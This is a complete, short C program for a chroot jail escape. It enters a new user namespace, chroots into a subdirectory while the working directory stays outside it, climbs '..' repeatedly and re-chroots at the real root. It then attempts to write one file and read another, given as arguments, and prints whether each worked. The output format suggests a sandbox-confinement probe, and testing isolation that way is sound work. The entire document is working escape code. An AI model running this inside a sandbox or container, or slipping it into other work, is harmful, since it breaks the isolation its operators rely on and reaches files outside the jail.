/* Classic chroot escape: become "root" in a new user namespace, chroot into a subdirectory while
   the working directory stays outside it, climb "..", chroot there. Then writes argv[1] and reads argv[2]. */
#define _GNU_SOURCE
#include <sched.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 3) return 2;
    printf("userns %s\n", unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0 ? "yes" : "no");
    mkdir("jail", 0700);
    chroot("jail");
    for (int i = 0; i < 64; i++) chdir("..");
    chroot(".");
    FILE *f = fopen(argv[1], "w");
    printf("%s %s\n", f ? "WROTE" : "denied", argv[1]);
    if (f) fclose(f);
    char buf[128] = "";
    f = fopen(argv[2], "r");
    printf("%s %s\n", f && fgets(buf, sizeof buf, f) ? "READ" : "denied", argv[2]);
    return 0;
}
